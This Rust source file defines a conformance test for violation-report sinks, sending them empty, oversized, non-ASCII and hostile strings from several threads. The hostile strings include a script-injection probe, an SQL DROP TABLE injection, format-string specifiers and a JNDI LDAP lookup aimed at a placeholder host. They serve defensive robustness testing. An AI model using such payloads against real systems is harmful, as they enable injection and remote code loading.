//! What a sink must stand: for the tests of whoever writes one.

use super::clean::LONGEST;
use super::sink::ReportSink;
use super::violation::{Disposition, Report};

/// Hands `sink` what attackers would have it take: texts that are empty, as long as they may be, beyond
/// ASCII, or markup, a query and a format string; from several threads at once.
///
/// # Panics
///
/// If the sink does, which would end the connection of whoever posted the report.
pub fn report_sink_conformance(sink: &impl ReportSink) {
    let long = "\u{10ffff}".repeat(LONGEST);
    let texts = [
        "",
        "https://a.example/page",
        "\u{e9}\u{65e5}\u{1f600}e\u{301}",
        "<script>alert(1)</script>",
        "'; DROP TABLE reports; --",
        "{} %s %n ${jndi:ldap://e.example} \\u0000 \"",
        &long,
    ];
    std::thread::scope(|scope| {
        for _ in 0..THREADS {
            scope.spawn(|| {
                for text in texts {
                    for line in [None, Some(0), Some(u32::MAX)] {
                        sink.report(hostile(text, line));
                    }
                }
            });
        }
    });
}

fn hostile(text: &str, line: Option<u32>) -> Report {
    Report {
        kind: text.to_owned(),
        document: text.to_owned(),
        blocked: text.to_owned(),
        directive: text.to_owned(),
        disposition: Disposition::Report,
        source_file: text.to_owned(),
        line,
        column: line,
        sample: text.chars().take(100).collect(),
    }
}

const THREADS: usize = 4;
